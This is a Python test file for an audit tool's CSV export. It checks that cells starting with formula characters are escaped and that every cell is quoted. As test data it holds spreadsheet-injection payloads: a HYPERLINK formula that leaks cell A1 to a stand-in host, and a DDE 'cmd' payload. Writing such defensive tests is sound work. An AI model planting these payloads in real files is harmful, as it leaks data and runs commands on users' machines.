"""`gvi-audit export --format csv` (issue 22, item 3): a cell that a spreadsheet would run as a formula
is written as text, whatever column it is in; nothing else changes."""

from __future__ import annotations

import csv
import io

import pytest

from services.audit.library.export import COLUMNS, write_csv
from services.infra.spreadsheet import spreadsheet_safe

HYPERLINK = '=HYPERLINK("https://example.org/?leak="&A1,"open")'


def exported(*rows: dict[str, object]) -> list[dict[str, str]]:
    out = io.BytesIO()
    assert write_csv(rows, out) == len(rows)
    return list(csv.DictReader(io.StringIO(out.getvalue().decode())))


def row(**cells: object) -> dict[str, object]:
    return {**dict.fromkeys(COLUMNS), "kind": "event", "data": {}, **cells}


def test_an_event_id_that_is_a_formula_is_exported_as_text() -> None:
    [line] = exported(row(id=HYPERLINK, source="+cmd|' /C calc'!A0", type="-2+3", agency="@SUM(1+1)",
                          topic="\tincidents", recordedtime="\r=1+1", partition=0, offset=17,
                          data={"note": "=not a cell of its own"}))
    assert line["id"] == "'" + HYPERLINK
    assert (line["source"], line["type"], line["agency"], line["topic"], line["recordedtime"]) == (
        "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "'\tincidents", "'\r=1+1")
    assert (line["kind"], line["partition"], line["offset"], line["time"]) == ("event", "0", "17", "")
    assert line["data"] == '{"note": "=not a cell of its own"}'


def test_every_cell_is_quoted_so_a_separator_inside_stays_in_its_cell() -> None:
    out = io.BytesIO()
    write_csv([row(id="a;=1+1", offset=3)], out)
    header, line = out.getvalue().decode().splitlines()
    assert header.startswith('"kind","topic"') and line.startswith('"event","","","3","a;=1+1",')


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("inc-2019-0117", "inc-2019-0117"), ("a=b", "a=b"), ("'=1", "'=1"), ("", ""), (-1, -1), (None, None),
])
def test_only_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected
